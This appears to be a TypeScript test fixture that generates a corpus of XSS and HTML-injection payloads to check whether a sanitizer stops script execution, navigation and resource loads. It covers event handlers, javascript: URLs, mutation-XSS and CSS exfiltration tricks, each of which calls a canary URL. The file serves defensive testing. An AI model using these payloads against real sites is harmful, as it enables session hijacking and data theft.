/**
 * Contains a corpus of hostile designs, with every known way in which HTML can run a script, load a resource,
 * navigate, or open a window. Each payload requests a canary URL with the payload's number. If a script runs,
 * it writes the payload's number into the document.
 */

interface PayloadParts {
  /** The canary URL of the payload. */
  readonly url: (kind: string) => string;
  /**
   * A script that leaves a mark when run. The script contains no quotes, so any attribute can contain it.
   */
  readonly js: string;
}

type Payload = (parts: PayloadParts) => string;

const scripts: readonly Payload[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ url }) => `<script src="${url('script')}"></script>`,
  ({ url }) => `<script type=module src="${url('module')}"></script>`,
  ({ url }) => `<script type=module>import "${url('import')}"</script>`,
  ({ url }) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url('speculation')}"]}]}</script>`,
  ({ url }) =>
    `<script type=importmap>{"imports":{"x":"${url('map')}"}}</script><script type=module>import "x"</script>`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<SCRIPT/x>${js}</SCRIPT/x>`,
  ({ js }) => `<script\n>${js}</script\t>`,
  ({ js }) => `<script>${js}//`,
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ url }) => `<svg><script href="${url('svg-script')}"></script></svg>`,
  ({ url }) => `<svg><script xlink:href="${url('svg-xlink')}"></script></svg>`,
  ({ js }) => `<math><mtext><script>${js}</script></mtext></math>`,
  ({ js }) => `<svg><foreignObject><script>${js}</script></foreignObject></svg>`,
  ({ js }) => `<noscript><p title="</noscript><script>${js}</script>"></noscript>`,
  ({ js }) => `<template shadowrootmode=open><script>${js}</script></template>`,
  ({ js }) => `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
  ({ js }) => `{{<script>${js}</script>}}`,
  ({ js }) => `<p>{{a<img src=x onerror=${js}>}}</p>`,
  ({ js }) => `{{headline}}<script>${js}</script>{{`,
];

const handlers: readonly Payload[] = [
  ({ js }) => `<img src=x onerror=${js}>`,
  ({ js }) => `<img src=x onerror="${js}"//`,
  ({ js }) => `<img/src=x/onerror=${js}>`,
  ({ js }) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=${js}>`,
  ({ js }) => `<svg onload=${js}></svg>`,
  ({ js }) => `<svg><g onload=${js}></g></svg>`,
  ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  ({ js }) => `<svg><set onbegin=${js} attributeName=x to=1></svg>`,
  ({ js }) => `<svg><image href=x onerror=${js}></svg>`,
  ({ js }) => `<body onload=${js}>`,
  ({ js }) => `<body onpageshow=${js} onfocus=${js}>`,
  ({ js }) => `<input autofocus onfocus=${js}>`,
  ({ js }) => `<select autofocus onfocus=${js}></select>`,
  ({ js }) => `<textarea autofocus onfocus=${js}></textarea>`,
  ({ js }) => `<details open ontoggle=${js}>x</details>`,
  ({ js }) => `<video><source onerror=${js} src=x></video>`,
  ({ js }) => `<video src=x onerror=${js}></video>`,
  ({ js }) => `<audio src=x onerror=${js}></audio>`,
  ({ js }) => `<object data=x onerror=${js}></object>`,
  ({ js }) => `<iframe onload=${js}></iframe>`,
  ({ js }) => `<style onload=${js}></style>`,
  ({ js }) => `<link rel=stylesheet href="data:text/css," onload=${js}>`,
  ({ js }) => `<marquee onstart=${js} onfinish=${js} loop=1>x</marquee>`,
  ({ js }) =>
    `<p style="animation:x 1ms" onanimationstart=${js} onanimationend=${js}>x</p><style>@keyframes x{}</style>`,
  ({ js }) => `<p style="transition:color 1ms" ontransitionend=${js}>x</p>`,
  ({ js }) => `<math><mi onload=${js} xlink:href="javascript:${js}">x</mi></math>`,
  ({ js }) => `<p onmouseover=${js} onpointerenter=${js} style="position:fixed;inset:0">x</p>`,
  ({ js }) => `<dialog open onclose=${js}><form method=dialog><button autofocus>x</button></form></dialog>`,
];

const urls: readonly Payload[] = [
  ({ js }) => `<iframe src="javascript:${js}"></iframe>`,
  ({ js }) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  ({ js }) => `<iframe srcdoc="<img src=x onerror=${js}>"></iframe>`,
  ({ js }) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  ({ url }) => `<iframe src="${url('iframe')}"></iframe>`,
  ({ url }) =>
    `<iframe src="/campaigns"></iframe><iframe src="${url('iframe2')}" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>`,
  ({ url }) => `<object data="${url('object')}"></object>`,
  ({ js }) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  ({ url }) => `<embed src="${url('embed')}">`,
  ({ js }) => `<embed src="javascript:${js}">`,
  ({ url }) => `<applet code="${url('applet')}" archive="${url('applet')}"></applet>`,
  ({ url }) => `<frameset><frame src="${url('frame')}"></frameset>`,
  ({ js }) => `<a href="javascript:${js}" style="position:fixed;inset:0;display:block">x</a>`,
  ({ js }) => `<a href="java&#115;cript:${js}" target=_top>x</a>`,
  ({ js }) => `<a href=" &#x09;java\nscript:${js}">x</a>`,
  ({ url }) => `<a href="${url('top')}" target=_top style="position:fixed;inset:0;display:block">x</a>`,
  ({ url }) => `<a href="${url('blank')}" target=_blank rel=opener style="position:fixed;inset:0">x</a>`,
  ({ url }) => `<a href="${url('download')}" download style="position:fixed;inset:0">x</a>`,
  ({ url }) => `<a href="#" ping="${url('ping')}" style="position:fixed;inset:0">x</a>`,
  ({ js }) => `<svg><a xlink:href="javascript:${js}"><rect width=999 height=999 /></a></svg>`,
  ({ js }) =>
    `<svg><a><animate attributeName=href values="javascript:${js}"/><rect width=999 height=999 /></a></svg>`,
  ({ url }) => `<svg><use href="${url('use')}#x"/></svg>`,
  ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=${js}/>#x"/></svg>`,
  ({ url }) => `<meta http-equiv=refresh content="0;url=${url('refresh')}">`,
  ({ js }) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  ({ url }) =>
    `<meta http-equiv="Refresh" content="0; URL='data:text/html,<img src=${url('refresh-data')}>'">`,
  () => '<meta http-equiv=refresh content="0;url=/campaigns">',
  () => '<meta http-equiv=set-cookie content="hostile=1">',
  () => '<meta http-equiv=content-security-policy content="script-src *">',
  ({ url }) => `<base href="${url('base')}/"><img src="relative.png">`,
  () => '<base target=_top>',
];

const resources: readonly Payload[] = [
  ({ url }) => `<img src="${url('img')}">`,
  ({ url }) => `<img srcset="${url('srcset')} 1x, ${url('srcset')} 2x">`,
  ({ url }) => `<picture><source srcset="${url('source')}"><img src=x></picture>`,
  ({ url }) => `<img src=x lowsrc="${url('lowsrc')}" longdesc="${url('longdesc')}">`,
  ({ url }) => `<image src="${url('image')}">`,
  ({ url }) => `<input type=image src="${url('input')}">`,
  ({ url }) => `<table background="${url('table')}"><td background="${url('td')}">x</table>`,
  ({ url }) => `<body background="${url('body')}">`,
  ({ url }) => `<video src="${url('video')}" autoplay muted></video>`,
  ({ url }) => `<video poster="${url('poster')}"></video>`,
  ({ url }) => `<audio src="${url('audio')}" autoplay></audio>`,
  ({ url }) => `<video><track default src="${url('track')}"></video>`,
  ({ url }) => `<svg><image href="${url('svg-image')}" width=9 height=9 /></svg>`,
  ({ url }) => `<svg><image xlink:href="${url('svg-image-xlink')}" width=9 height=9 /></svg>`,
  ({ url }) =>
    `<svg><filter id=f><feImage href="${url('fe')}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  ({ url }) => `<svg><rect fill="url(${url('fill')}#x)" width=9 height=9 /></svg>`,
  ({ url }) => `<link rel=stylesheet href="${url('stylesheet')}">`,
  ({ url }) => `<link rel=preload as=image href="${url('preload')}">`,
  ({ url }) => `<link rel=prefetch href="${url('prefetch')}"><link rel=prerender href="${url('prerender')}">`,
  ({ url }) =>
    `<link rel=preconnect href="${url('preconnect')}"><link rel=dns-prefetch href="${url('dns')}">`,
  ({ url }) => `<link rel=modulepreload href="${url('modulepreload')}">`,
  ({ url }) => `<link rel=icon href="${url('icon')}"><link rel="manifest" href="${url('manifest')}">`,
  ({ url }) =>
    `<noscript><link rel=preconnect href="${url('noscript')}"><img src="${url('noscript')}"></noscript>`,
  ({ url }) =>
    `<div><template shadowrootmode=open><link rel=preconnect href="${url('shadow')}"></template></div>`,
  ({ url }) =>
    `<form action="${url('form')}" id=f method=post><input name=a><button autofocus>x</button></form>`,
  ({ url }) => `<button form=f formaction="${url('formaction')}" style="position:fixed;inset:0">x</button>`,
  ({ url }) => `<isindex action="${url('isindex')}" type=image src="${url('isindex')}">`,
  ({ url }) => `<script>window.open("${url('open')}")</script>`,
  ({ url }) => `<script>top.location="${url('top-location')}"</script>`,
  ({ url }) => `<script>fetch("${url('fetch')}");new Image().src="${url('new-image')}"</script>`,
  ({ url }) =>
    `<script>navigator.sendBeacon("${url('beacon')}");new WebSocket("${url('ws').replace('http', 'ws')}")</script>`,
  () => '<script>alert(1);confirm(1);prompt(1);print()</script>',
  () => '<script>parent.postMessage("hostile","*");top.postMessage("hostile","*")</script>',
];

const css: readonly Payload[] = [
  ({ url }) => `<style>@import "${url('import')}";</style>`,
  ({ url }) => `<style>@import url(${url('import-url')});</style>`,
  ({ url }) => `<style>@\\69mport "${url('import-escaped')}";</style>`,
  ({ url }) => `<style>html{background:url(${url('background')})}</style>`,
  ({ url }) => `<style>body{background:u\\72l("${url('escaped')}")}</style>`,
  ({ url }) => `<style>body{background-image:image-set("${url('image-set')}" 1x)}</style>`,
  ({ url }) => `<style>@font-face{font-family:h;src:url(${url('font')})}body{font-family:h}</style>`,
  ({ url }) =>
    `<style>li{list-style:url(${url('list')})}body{cursor:url(${url('cursor')}),auto}</style><li>x`,
  ({ url }) =>
    `<style>p::before{content:url(${url('content')})}p{border-image:url(${url('border')}) 1}</style><p>x</p>`,
  ({ url }) =>
    `<style>p{mask:url(${url('mask')});filter:url(${url('filter')}#x);clip-path:url(${url('clip')}#x)}</style>`,
  ({ url }) => `<p style="background:url('${url('attribute')}')">x</p>`,
  ({ url }) => `<p style='background:url("${url('attribute2')}")'>x</p>`,
  ({ url }) => `<style>input[value^=a]{background:url(${url('leak')})}</style><input value=abc>`,
  ({ url }) => `<style>@namespace url(${url('namespace')});@document url(${url('document')}){a{}}</style>`,
  ({ js }) => `<p style="width:expression(${js});behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>`,
  ({ js }) => `<style>*{background:url("javascript:${js}")}</style>`,
  ({ js }) => `<style></style ><img src=x onerror=${js}></style>`,
  ({ js }) => `<style><!--</style><img src=x onerror=${js}>--></style>`,
];

const mutations: readonly Payload[] = [
  ({ js }) => `<!--><img src=x onerror=${js}>-->`,
  ({ js }) => `<!--!><img src=x onerror=${js}>--!><img src=x onerror=${js}>`,
  ({ js }) => `<![CDATA[<img src=x onerror=${js}>]]>`,
  ({ js }) => `<?xml version="1.0"?><img src=x onerror=${js}>`,
  ({ js }) => `<title></title><img src=x onerror=${js}></title>`,
  ({ js }) => `<textarea></textarea><img src=x onerror=${js}></textarea>`,
  ({ js }) => `<xmp></xmp><img src=x onerror=${js}></xmp>`,
  ({ js }) => `<noembed></noembed><img src=x onerror=${js}></noembed>`,
  ({ js }) => `<svg></p><style><a title="</style><img src=x onerror=${js}>">`,
  ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  ({ js }) => `<svg><desc><style><img src=x onerror=${js}></style></desc></svg>`,
  ({ js }) =>
    `<select><template><img src=x onerror=${js}></template><style><img src=x onerror=${js}></style></select>`,
  ({ js }) => `<table><caption><svg><style></table><img src=x onerror=${js}>`,
  ({ js }) => `<meta charset="utf-7">+ADw-img src=x onerror=${js}+AD4-`,
  ({ js }) => `<meta charset="iso-2022-jp">\u001b$B<img src=x onerror=${js}>\u001b(B`,
  ({ js }) => `<img src="x\` \`<script>${js}</script>"\` \`>`,
  ({ js }) => `<b title='"><img src=x onerror=${js}>'>x</b>`,
  ({ js }) => `</body></html><img src=x onerror=${js}>`,
];

const PAYLOADS = [...scripts, ...handlers, ...urls, ...resources, ...css, ...mutations];
export const HOSTILE_COUNT = PAYLOADS.length;

/** Closes every element that a payload may leave open, so that the next payload is parsed as intended. */
const CLOSING_TAGS =
  '--></style></script></title></textarea></xmp></noembed></noscript></template></select></svg></math></form></table></a></b></p><!-- -->';

export const markerId = (payload: number): string => `payload-${payload}`;

/**
 * Distributes the payloads evenly over `count` designs.
 * @returns the HTML of each design and the numbers of the payloads in the design
 */
export function hostileDesigns(canary: string, count: number): { html: string; payloads: number[] }[] {
  return Array.from({ length: count }, (_, design) => {
    const payloads = PAYLOADS.map((_payload, i) => i).filter((i) => i % count === design);
    return { html: payloads.map((i) => renderPayload(canary, i)).join('\n'), payloads };
  });
}

function renderPayload(canary: string, i: number): string {
  const parts: PayloadParts = {
    url: (kind) => `${canary}/${i}-${kind}`,
    js: `document.documentElement.dataset.ran=${i}`,
  };
  return `<i id="${markerId(i)}">${i}</i>${PAYLOADS[i]?.(parts) ?? ''}${CLOSING_TAGS}`;
}
